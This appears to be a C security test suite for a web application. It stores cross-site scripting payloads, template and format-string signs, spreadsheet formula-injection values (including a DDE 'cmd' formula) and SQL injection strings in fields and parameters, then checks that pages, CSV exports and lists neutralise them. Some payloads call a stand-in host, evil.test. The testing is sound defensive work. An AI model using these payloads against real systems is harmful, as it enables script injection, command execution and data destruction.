/* SPDX-License-Identifier: Apache-2.0 */
/* What people type comes back as text and as nothing else: markup, template and format signs in
 * every text field of every entity, formulas in exports, odd values in the parameters of lists. */
#include <ctype.h>
#include <stdio.h>
#include <string.h>

#include "base/text.h"
#include "maker.h"

static const char *const payloads[] = {
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus=alert(1) x='",
    "x' hx-get='//evil.test' hx-trigger='load",
    "\" hx-on:load=\"alert(1)",
    "' style='position:fixed;inset:0",
    "<style>@import'//evil.test'</style>",
    "<link rel=stylesheet href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test>",
    "<form action=//evil.test><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "![x](//evil.test/x.png)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<<script>script>alert(1)<</script>/script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "`${alert(1)}`<script>`",
    "<x contenteditable onblur=alert(1)>",
    "<marquee onstart=alert(1)>",
    "javascript:alert(1)//'\"<svg/onload=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E<b>",
    "\xE2\x80\xAE<script>alert(1)</script>",
    "\xEF\xBC\x9Cscript\xEF\xBC\x9E<i>alert(1)</i>",
};

/* --- a reader of pages: what a browser would act on --- */

struct reader {
    struct test *t;
    const char *at;
    const char *what; /* the payload, for messages */
};

static void harmful(const struct reader *r, const char *why, const char *at)
{
    fail_msg("%s %s with “%s”: %s: %.160s", r->t->r->method_text, r->t->r->target, r->what, why,
             at);
}

static char *word(struct reader *r, const char *end)
{
    size_t n = strcspn(r->at, end);
    char *text = arena_strn(r->t->request, r->at, n);

    r->at += n;
    for (char *p = text; *p; p++)
        *p = (char)tolower((unsigned char)*p);
    return text;
}

static char *attribute_value(struct reader *r)
{
    char quote = *r->at;
    char end[2] = {quote, 0};
    char *value;

    if (quote != '\'' && quote != '"')
        return word(r, " \t\n>");
    r->at++;
    value = word(r, end);
    r->at += *r->at != '\0';
    return value;
}

static void check_attribute(const struct reader *r, const char *tag, const char *name,
                            const char *value, const char *at)
{
    static const char *const addresses[] = {"href", "src",    "action",    "formaction",
                                            "data", "poster", "xlink:href"};

    if (text_starts(name, "on") || text_starts(name, "hx-on") || !strcmp(name, "style") ||
        !strcmp(name, "srcdoc") || !strcmp(name, "contenteditable"))
        harmful(r, arena_printf(r->t->request, "the attribute %s of %s", name, tag), at);
    for (size_t i = 0; i < COUNT_OF(addresses); i++)
        if (!strcmp(name, addresses[i]) && *value &&
            (strstr(value, "script:") || text_starts(value, "data:") || text_starts(value, "//")))
            harmful(r, "an address", at);
}

static void read_tag(struct reader *r)
{
    static const char *const never[] = {"iframe", "object",   "embed", "base",    "math",
                                        "style",  "video",    "audio", "marquee", "template",
                                        "img",    "noscript", "body2"};
    const char *start = r->at;
    char *tag;
    bool source = false;

    r->at++;
    tag = word(r, " \t\n/>");
    for (size_t i = 0; i < COUNT_OF(never); i++)
        if (!strcmp(tag, never[i]))
            harmful(r, "a tag", start);
    while (*r->at && *r->at != '>') {
        const char *here = r->at;
        char *name, *value = (char *)(uintptr_t) "";

        r->at += strspn(r->at, " \t\n/");
        if (!*r->at || *r->at == '>')
            break;
        name = word(r, " \t\n/>=");
        if (*r->at == '=') {
            r->at++;
            value = attribute_value(r);
        }
        source |= !strcmp(name, "src");
        check_attribute(r, tag, name, value, here);
        if (r->at == here)
            harmful(r, "markup that cannot be read", here);
    }
    if (!strcmp(tag, "script") && !source)
        harmful(r, "a script", start);
}

static void read_page(struct test *t, const char *payload)
{
    struct reader r = {t, body(t), payload};

    if (status(t) >= 500)
        fail_msg("%s %s answered %d with “%s”", t->r->method_text, t->r->target, status(t),
                 payload);
    if (!t->r->response.type || !text_starts(t->r->response.type, "text/html"))
        return;
    if (strpbrk(payload, "<>\"'") && strstr(r.at, payload))
        harmful(&r, "the text stands there as it was typed", strstr(r.at, payload));
    while ((r.at = strchr(r.at, '<'))) {
        if (isalpha((unsigned char)r.at[1]))
            read_tag(&r);
        else
            r.at++;
    }
}

/* --- stored text (56, 60) --- */

static void open_page(struct test *t, const char *payload, const char *target)
{
    visit(t, METHOD_GET, target, NULL);
    read_page(t, payload);
}

static struct making store_text(struct test *t, const struct entity *e, const char *payload)
{
    struct making m = {.org = t->org, .entity = e, .text = payload};

    make_record(t, &m);
    return m;
}

static void look_everywhere(struct test *t, const struct making *m)
{
    static const char *const ends[] = {"", "/edit", "/remove", "/score", "/copy", "/approval"};
    const char *plural = m->entity->plural;

    for (size_t i = 0; i < COUNT_OF(ends); i++)
        if (route_exists(METHOD_GET, arena_printf(t->arena, "/o/:slug/%s/:no%s", plural, ends[i])))
            open_page(t, m->text,
                      arena_printf(t->arena, "/o/acme/%s/%lld%s", plural, m->id, ends[i]));
    /* Sent back by a form that is refused. */
    if (route_exists(METHOD_POST, arena_printf(t->arena, "/o/:slug/%s", plural))) {
        struct inputs in = {.list = NEW_ARRAY(t->arena, struct input, 1)};

        for (size_t i = 0; i < m->entity->nfields; i++)
            if (field_open(&m->entity->fields[i]))
                in = inputs_with(t, in, m->entity->fields[i].name, m->text);
        visit(t, METHOD_POST, arena_printf(t->arena, "/o/acme/%s", plural), inputs_form(t, in));
        read_page(t, m->text);
    }
}

/* Every GET page without a record: lists, home, plan, suggestions, reports, log. */
static void general_page(struct test *t, const struct route_entry *e, const char *address,
                         void *ctx)
{
    const char *payload = ctx;

    if (e->route->method != METHOD_GET || e->route->flags & ROUTE_API ||
        strstr(e->pattern, "/:no") || strstr(e->pattern, "export"))
        return;
    open_page(t, payload, address);
    open_page(t, payload,
              arena_printf(t->arena, "%s?q=%s&m=%s&next=%s", address, text_url(t->arena, payload),
                           text_url(t->arena, payload), text_url(t->arena, payload)));
}

static void stored_markup(void **state)
{
    struct test *t = test_begin();
    const struct entity *kinds[ENTITIES_MAX];
    size_t n = tenant_entities(kinds, ENTITIES_MAX), made = 0, step = test_full() ? 1 : 5;

    (void)state;
    login(t, "isms-manager");
    for (size_t k = 0; k < n; k++) {
        /* Each entity gets a fifth of the payloads, together they get all. */
        for (size_t i = k % step; !kinds[k]->no_create && i < COUNT_OF(payloads); i += step) {
            struct making m = store_text(t, kinds[k], payloads[i]);

            look_everywhere(t, &m);
            made++;
        }
    }
    tick(t);
    for (size_t i = 0; i < COUNT_OF(payloads); i += step)
        each_route(t, general_page, (void *)(uintptr_t)payloads[i]);
    tell("markup: %zu records of %zu payloads\n", made, COUNT_OF(payloads));
    assert_true(made > 100);
    test_end(t);
}

static void literal_signs(void **state)
{
    static const char signs[] = "%n%s%1$p{{7*7}}${7*7}#{7*7}{%x%} ends here";
    static const char shown[] = "%n%s%1$p{{7*7}}${7*7}#{7*7}{%x%} ends here";
    struct test *t = test_begin();
    const struct entity *kinds[ENTITIES_MAX];
    size_t n = tenant_entities(kinds, ENTITIES_MAX);

    (void)state;
    login(t, "isms-manager");
    for (size_t k = 0; k < n; k++) {
        const char *pattern = arena_printf(t->arena, "/o/:slug/%s/:no", kinds[k]->plural);
        struct making m;

        if (kinds[k]->no_create || !route_exists(METHOD_GET, pattern))
            continue;
        m = store_text(t, kinds[k], signs);
        open_page(t, signs, arena_printf(t->arena, "/o/acme/%s/%lld", kinds[k]->plural, m.id));
        expect_status(t, 200);
        expect_text(t, shown);
        expect_no_text(t, "49#");
    }
    test_end(t);
}

/* --- formulas in exports (59) --- */

static const char *const formulas[] = {
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|'/c calc'!A0",
    "  =1+1",
    "\xEF\xBC\x9D"
    "1+1",
    "\xEF\xBC\x8B"
    "1",
    "\xEF\xBC\x8D"
    "1",
    "\xEF\xBC\xA0"
    "x",
    "=HYPERLINK(\"//evil.test\")",
    "\xC2\xA0=1+1",
};

static const char *file_text(struct test *t)
{
    FILE *f = fopen(t->r->response.file, "rb");
    char *text = arena_alloc(t->request, 1 << 20);
    size_t n;

    assert_non_null(f);
    n = fread(text, 1, (1 << 20) - 1, f);
    fclose(f);
    assert_true(n > 0);
    return text;
}

/* A whole number below zero is a number for every spreadsheet, and nothing else. */
static bool is_number(const char *cell)
{
    size_t n = *cell == '-' ? 1 + strspn(cell + 1, "0123456789") : 0;

    return n > 1 && (!cell[n] || strchr(",;\r\n", cell[n]));
}

/* The first sign of a cell that a spreadsheet could take for a formula. */
static bool is_formula(const char *cell)
{
    static const char *const blanks[] = {" ", "\t", "\r", "\n", "\"", "\xC2\xA0", "\xEF\xBB\xBF"};
    static const char *const starts[] = {
        "=", "+", "-", "@", "\xEF\xBC\x9D", "\xEF\xBC\x8B", "\xEF\xBC\x8D", "\xEF\xBC\xA0"};
    bool again = true;

    while (again) {
        again = false;
        for (size_t i = 0; i < COUNT_OF(blanks); i++)
            if (text_starts(cell, blanks[i])) {
                cell += strlen(blanks[i]);
                again = true;
            }
    }
    for (size_t i = 0; i < COUNT_OF(starts); i++)
        if (text_starts(cell, starts[i]))
            return true;
    return false;
}

static void read_csv(struct test *t, const char *text)
{
    bool quoted = false, first = true;

    for (const char *p = text; *p; p++) {
        if (first && is_formula(p) && !is_number(p) && *p != ',' && *p != '\r' && *p != '\n')
            fail_msg("%s: a cell is a formula: %.60s", t->r->target, p);
        first = false;
        if (*p == '"')
            quoted = !quoted;
        else if (!quoted && (*p == ',' || *p == ';' || *p == '\n'))
            first = p[1] && p[1] != ',' && p[1] != '\n' && p[1] != '\r';
    }
}

static void formulas_in_lists(void **state)
{
    struct test *t = test_begin();
    const struct entity *kinds[ENTITIES_MAX];
    size_t n = tenant_entities(kinds, ENTITIES_MAX), lists = 0;

    (void)state;
    login(t, "isms-manager");
    for (size_t k = 0; k < n; k++) {
        if (kinds[k]->no_create || kinds[k]->no_api)
            continue;
        for (size_t i = 0; i < COUNT_OF(formulas); i++)
            store_text(t, kinds[k], formulas[i]);
        visit(t, METHOD_GET,
              arena_printf(t->arena, "/o/acme/%s/export?format=csv", kinds[k]->plural), NULL);
        expect_status(t, 200);
        read_csv(t, t->r->response.file ? file_text(t) : body(t));
        lists++;
    }
    assert_true(lists > 5);
    test_end(t);
}

/* --- parameters of lists (55) --- */

static const char *const odd[] = {
    "'",
    "''",
    "\"",
    "';--",
    "' or '1'='1",
    "1;drop table risk",
    "1) union select 1--",
    "/*",
    "*/",
    "--",
    "#",
    "\\",
    "\\'",
    "$1",
    "@1",
    "?",
    "%",
    "_",
    "%27",
    "0x1",
    "1e309",
    "NaN",
    "null",
    "NULL",
    "-1",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775808",
    "1.5",
    "true",
    "none",
    "id",
    "org_id",
    "version",
    "password",
    "number",
    "-number",
    "--number",
    "title, id",
    "title desc",
    "(select 1)",
    "case when 1=1 then 1 end",
    "\xF0\x9F\x92\xA9",
    "\xE2\x80\xAE",
    "\xC4\xB0\xC4\xB1\xC5\xBF",
    "a\xCC\x81\xCC\x81\xCC\x81",
    "AND",
    "OR NOT",
    "NEAR(a b)",
    "title:x",
    "^x",
    "x*",
    "\"x",
    "(x",
    "{x}",
    "2026-02-30",
    "2026-13-01",
    "9999-12-31",
    "[]",
    "{}",
    ",",
    ",,",
    "R-",
    "R-99999999999999999999",
    " ",
    "\n",
    "a,b,c",
};

static const char *huge(struct test *t)
{
    char *text = arena_alloc(t->arena, 20001);

    memset(text, 'a', 20000);
    return text;
}

static void odd_value(struct test *t, const char *target)
{
    const char *query = strchr(target, '?') + 1;
    struct pairs unused;

    if (parse_pairs(t->arena, query, strlen(query), &unused)) /* refused before it comes to core */
        return;
    if (target[1] == 'a')
        api(t, "isms-manager", METHOD_GET, target, NULL);
    else
        visit(t, METHOD_GET, target, NULL);
    if (status(t) != 200 && status(t) != 400 && status(t) != 303)
        fail_msg("%s answered %d: %.300s", target, status(t), body(t));
}

static void odd_parameters(struct test *t, const struct entity *e, const char *base,
                           const char *value)
{
    static const char *const names[] = {"q", "sort", "after", "limit", "format", "asof"};

    for (size_t i = 0; i < COUNT_OF(names); i++)
        odd_value(t, arena_printf(t->arena, "%s?%s=%s", base, names[i], value));
    odd_value(t, arena_printf(t->arena, "%s?%s=1", base, value));
    for (size_t i = 0; i < e->nfields; i++) {
        if (!e->fields[i].filtered)
            continue;
        odd_value(t, arena_printf(t->arena, "%s?%s=%s", base, e->fields[i].name, value));
        odd_value(t, arena_printf(t->arena, "%s?%s.min=%s", base, e->fields[i].name, value));
    }
}

static void list_parameters(void **state)
{
    struct test *t = test_begin();
    const struct entity *kinds[ENTITIES_MAX];
    size_t n = tenant_entities(kinds, ENTITIES_MAX), step = test_full() ? 1 : 6;
    const char *before;

    (void)state;
    login(t, "isms-manager");
    api(t, "isms-manager", METHOD_GET, "/api/v1/openapi.json", NULL);
    for (size_t k = 0; k < n; k++)
        some_record(t, t->org, kinds[k], NULL);
    before = store_digest(t);
    for (size_t k = 0; k < n; k++) {
        const char *page = arena_printf(t->arena, "/o/acme/%s", kinds[k]->plural);
        const char *list = arena_printf(t->arena, "/api/v1/%s", kinds[k]->plural);

        for (size_t i = k % step; i < COUNT_OF(odd) + 1; i += step) {
            const char *value = i < COUNT_OF(odd) ? text_url(t->arena, odd[i]) : huge(t);

            if (route_exists(METHOD_GET, arena_printf(t->arena, "/o/:slug/%s", kinds[k]->plural)))
                odd_parameters(t, kinds[k], page, value);
            if (!kinds[k]->no_api)
                odd_parameters(t, kinds[k], list, value);
        }
    }
    assert_string_equal(store_digest(t), before);
    test_end(t);
}

/* --- two people at once (51) --- */

static void lost_update(void **state)
{
    struct test *t = test_begin();
    const struct entity *kinds[ENTITIES_MAX];
    size_t n = tenant_entities(kinds, ENTITIES_MAX), pages = 0, records = 0;

    (void)state;
    login(t, "isms-manager");
    for (size_t k = 0; k < n; k++) {
        const struct entity *e = kinds[k];
        const struct field *f = entity_field(e, e->title);
        struct making m = {.org = t->org, .entity = e};
        const char *address;

        if (e->no_create || !e->write || !f || !field_open(f) || f->fixed)
            continue;
        make_record(t, &m);
        if (!e->no_api) {
            address = arena_printf(t->arena, "/api/v1/%s/%lld", e->plural, m.id);
            api_header(t, "If-Match", "\"1\"");
            api(t, "isms-manager", METHOD_PATCH, address,
                arena_printf(t->arena, "{\"%s\":\"First one in\",\"_reason\":\"r\"}", f->name));
            expect_status(t, 200);
            api_header(t, "If-Match", "\"1\"");
            api(t, "isms-manager", METHOD_PATCH, address,
                arena_printf(t->arena, "{\"%s\":\"Second one\",\"_reason\":\"r\"}", f->name));
            expect_status(t, 412);
            records++;
        }
        if (route_exists(METHOD_POST, arena_printf(t->arena, "/o/:slug/%s/:no", e->plural))) {
            visit(t, METHOD_POST, arena_printf(t->arena, "/o/acme/%s/%lld", e->plural, m.id),
                  arena_printf(t->arena, "_version=1&_reason=r&%s=Second+one", f->name));
            expect_status(t, 409);
            expect_text(t, "First one in");
            expect_text(t, "Second one");
            pages++;
        }
    }
    assert_true(pages > 4 && records > 4);
    test_end(t);
}

const struct test_case stored_tests[] = {
    TEST("markup in any text field comes back as text on every page", stored_markup),
    TEST("signs of templates and formats are shown as they were typed", literal_signs),
    TEST("no cell of an exported list is a formula", formulas_in_lists),
    TEST("odd values of filters, orders and searches are answered or refused, and change nothing",
         list_parameters),
    TEST("who saves an old version is told, and sees both texts", lost_update),
    TEST_END,
};
